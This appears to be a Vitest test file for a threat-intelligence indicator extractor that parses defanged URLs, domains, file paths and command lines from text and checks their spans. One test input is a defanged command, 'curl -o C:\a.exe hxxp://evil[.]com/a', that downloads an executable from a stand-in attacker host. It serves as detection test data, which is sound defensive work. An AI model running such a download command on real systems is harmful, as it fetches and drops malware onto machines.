import { describe, expect, it } from 'vitest';
import { extractObservables } from '@cti/intel/extract-observables';
import { commandCases, hostCases, networkCases, nothingCases, type Case } from './observable-cases.ts';

const check = ([text, ...expected]: Case): void => {
  const mentions = extractObservables(text);
  expect(mentions.map(({ type, value }) => [type, value])).toEqual(expected.map(([type, value]) => [type, value]));
  expected.forEach(([, , original], index) => {
    if (original !== undefined) expect(mentions[index]?.original).toBe(original);
  });
};

const everySpanMatches = (text: string): void => {
  for (const { start, end, original } of extractObservables(text)) expect(text.slice(start, end)).toBe(original);
};

describe('extractObservables', () => {
  it.each(networkCases.map((row) => [row[0], row] as const))('reads addresses, defanged or not: %s', (_, row) =>
    check(row),
  );
  it.each(hostCases.map((row) => [row[0], row] as const))('reads what is found on a host: %s', (_, row) => check(row));
  it.each(nothingCases)('finds nothing in: %s', (text) => expect(extractObservables(text)).toEqual([]));

  it.each(commandCases)('quotes command lines to the letter: %s', (text, ...commands) => {
    const found = extractObservables(text).filter(({ type }) => type === 'command-line');
    expect(found.map(({ value, original }) => [value, original])).toEqual(commands.map((line) => [line, line]));
  });

  it('reports the observables inside a command line as well', () => {
    const found = extractObservables('curl -o C:\\a.exe hxxp://evil[.]com/a');
    expect(found.map(({ type }) => type)).toEqual(['command-line', 'file-path', 'url', 'domain-name']);
  });

  it('says the right span for every mention, whatever stands around it', () => {
    const cases = [...networkCases, ...hostCases].map(([text]) => text);
    for (const glue of [' ', '\n', '、', '。', ', ', ' — 🦊 ', ' и ', '\u200b ']) everySpanMatches(cases.join(glue));
    const [first] = extractObservables('🦊🦊 evil[.]com');
    expect(first).toMatchObject({ start: 5, end: 15, original: 'evil[.]com' });
  });

  it('matches spans and stays in order in random texts made of awkward pieces', () => {
    const pieces =
      'a|1|.|[.]|(dot)| |:|//|hxxp|http|s|@|[at]|\\|\\.|C:\\|/tmp/|-|あ|日本|ж|🦊|\u200b|com|jp|exe|HKLM\\|cmd.exe /c |"|“|”|\n|\t|AS1|::|0x|[|]|(|)|%A%\\|CVE-2024-1234|d41d8cd98f00b204e9800998ecf8427e'.split(
        '|',
      );
    let seed = 7;
    const random = (below: number): number => (seed = (seed * 48_271) % 2_147_483_647) % below;
    let found = 0;
    for (let round = 0; round < 3_000; round += 1) {
      const text = Array.from({ length: 3 + random(30) }, () => pieces[random(pieces.length)]).join('');
      const mentions = extractObservables(text);
      found += mentions.length;
      for (const [index, { start, end, original }] of mentions.entries()) {
        expect(end).toBeGreaterThan(start);
        expect(text.slice(start, end)).toBe(original);
        expect(start).toBeGreaterThanOrEqual(mentions[index - 1]?.start ?? 0);
      }
    }
    expect(found).toBeGreaterThan(500);
  });
});
